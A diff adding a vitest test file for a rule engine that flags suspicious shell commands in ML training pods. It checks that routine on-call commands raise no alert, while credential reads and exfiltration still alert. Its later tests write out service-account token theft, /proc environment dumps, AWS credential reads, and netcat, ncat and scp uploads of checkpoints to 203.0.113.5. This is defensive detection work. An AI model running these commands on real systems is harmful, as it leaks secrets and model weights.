@@ -1,0 +1,104 @@
+/**
+ * An on-call engineer's everyday commands in a training pod, through the shipped rule set: none
+ * raises an alert (escalations to Layer 2, such as a checkpoint listing, are allowed: they are what
+ * the models and the analyst are for). Each command here once raised a high alert, or stands for a
+ * class that did: a tool's option read from another command, a port check, a pull, a public file of
+ * the service account, a filtered environment listing. The credential reads and uploads beside them
+ * still alert.
+ */
+import { describe, expect, it } from 'vitest';
+import { createRuleEngine } from './engine.js';
+import { execEvent, execRuleIds, SHIPPED_RULES } from './exec-events.test-support.js';
+
+const sh = (line: string): string[] => ['sh', '-c', line];
+
+/** The alerts (not escalations, not clears) one exec raises, as `<rule> <severity>`. */
+function alerts(argv: string[]): string[] {
+  return createRuleEngine(SHIPPED_RULES).evaluate(execEvent(argv)).filter((h) => h.decision === 'alert').map((h) => `${h.ruleId} ${h.severity}`);
+}
+
+const EVERYDAY: string[][] = [
+  ['nvidia-smi'], ['df', '-h'], ['cat', '/proc/meminfo'], ['printenv', 'PATH'], ['nc', '-z', '-w', '2', 'redis', '6379'],
+  ...[
+    'nvidia-smi --query-gpu=utilization.gpu,memory.used --format=csv -l 1',
+    'du -sh /mnt/ckpt/* | sort -rh | head',
+    'ps aux | grep -i python | head',
+    'tail -n 200 /workspace/logs/rank0.log | grep -i error',
+    'env | grep -i cuda',
+    'env | sort',
+    'pip list | grep -i torch',
+    'python3 -c "import torch; print(torch.cuda.is_available())"',
+    'curl -s http://localhost:8000/healthz',
+    'curl -sf http://localhost:8265/api/jobs/ | jq .',
+    'curl -fsSL https://example.com/README.md -o /tmp/README.md && grep -F install /tmp/README.md',
+    'curl -sf https://example.com/x -o /tmp/x && df -F ext4',
+    'curl -sO https://example.com/a.tgz && sort -T /tmp big.txt',
+    'curl -s -o /dev/null -w "%{http_code}" http://model-server:8080/v1/models',
+    'wget -q -T 10 -O /tmp/x.json http://metadata.internal/config',
+    'wget -T 30 -t 3 https://example.com/ds.tar.gz -O /data/ds.tgz && tar xzf /data/ds.tgz -C /data',
+    'curl -sL https://example.com/tools.tgz | tar xzf - -C /opt; ls -la /opt/tools | wc -c',
+    'aws sts get-caller-identity; cp /etc/hosts /tmp/hosts',
+    'aws s3 ls s3://ml-datasets/; sort -T /tmp big.txt | uniq -c',
+    'gsutil ls gs://ml-ckpt/ && rsync -a /workspace/data/ /scratch/data/',
+    'huggingface-cli download meta-llama/Llama-3-8B --local-dir /mnt/models/llama3',
+    'hf download Qwen/Qwen2-7B --local-dir /mnt/models',
+    'git -C /workspace/repo pull && git -C /workspace/repo log -1',
+    'nc -zv redis 6379',
+    'ncat -z -w 2 postgres 5432 && echo up',
+    'scp user@bastion:/tmp/fix.patch /workspace/',
+    'NS=$(cat /var/run/secrets/kubernetes.io/serviceaccount/namespace); kubectl get pods -n "$NS"',
+    'curl --cacert /var/run/secrets/kubernetes.io/serviceaccount/ca.crt https://kubernetes.default.svc/healthz',
+    'sha256sum /mnt/ckpt/llama-ft/step_1000/model.safetensors',
+    'openssl x509 -in /etc/ssl/certs/ca.crt -noout -dates',
+    'find /workspace -name "*.py" | xargs grep -l DataLoader',
+    'python3 /workspace/scripts/eval.py --model /mnt/ckpt/llama-ft/step_1000 --out /tmp/eval.json',
+  ].map(sh),
+];
+
+describe('everyday commands in a training pod raise no alert', () => {
+  it('not one of them', () => {
+    for (const argv of EVERYDAY) expect(alerts(argv), argv.join(' ')).toEqual([]);
+  });
+});
+
+describe('the credential reads and uploads beside them still alert', () => {
+  it('service-account tokens, /proc environments, secrets filtered or printed (MLS-RAY-010)', () => {
+    for (const argv of [
+      sh('cat /var/run/secrets/kubernetes.io/serviceaccount/token'),
+      sh('TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token) && curl -k -H "Authorization: Bearer $TOKEN" https://kubernetes.default.svc/api/v1/secrets'),
+      sh('cd /var/run/secrets/kubernetes.io/serviceaccount && cat token'),
+      sh('cat /var/run/secrets/kubernetes.io/serviceaccount/*'),
+      sh('tar czf /tmp/sa.tgz /run/secrets/kubernetes.io/serviceaccount/'),
+      sh('cat /var/run/secrets/kubernetes.io/serviceaccount/..data/token'),
+      sh("cat /proc/1/environ | tr '\\0' '\\n'"),
+      sh('strings /proc/*/environ'),
+      sh('env | grep -i -E "key|token|secret"'),
+      sh('printenv | grep AWS'),
+      ['printenv'],
+      ['printenv', 'WANDB_API_KEY'],
+      sh('cat ~/.aws/credentials'),
+    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-RAY-010');
+  });
+
+  it('netcat sending, scp pushing, also beside a port check (MLS-EXFIL-014)', () => {
+    for (const argv of [
+      ['nc', '203.0.113.5', '9000'],
+      sh('nc 203.0.113.5 9000 < /mnt/ckpt/model.pt'),
+      sh('nc -zv 203.0.113.5 9000 && tar c /mnt/ckpt | nc 203.0.113.5 9000'),
+      sh('base64 -w0 /mnt/ckpt/tokenizer.json | ncat --ssl 203.0.113.5 443'),
+      sh('scp -P 2222 -r /mnt/ckpt u@203.0.113.5:'),
+      ['scp', '/mnt/ckpt/model.pt', 'u@203.0.113.5:/x/'],
+    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-014');
+  });
+
+  it('checkpoints packed or copied, named to the tool or to the cd before it (MLS-EXFIL-013)', () => {
+    for (const argv of [
+      sh('mkdir -p /tmp/.cache/hf && tar czf /tmp/.cache/hf/blobs.tgz -C /mnt/ckpt/whisper-ft/step_5000 .'),
+      sh('cd /mnt/ckpt && tar czf /tmp/a.tgz .'),
+      sh('D=/mnt/ckpt/llama; tar czf /tmp/a.tgz $D'),
+      sh('sudo tar -cvzf /tmp/w.tgz /data/weights'),
+      ['cp', '-r', '/mnt/ckpt/llama', '/tmp/x'],
+    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-013');
+    expect(execRuleIds(sh('tar czf /tmp/logs.tgz /var/log; ls /mnt/ckpt'))).not.toContain('MLS-EXFIL-013');
+  });
+});
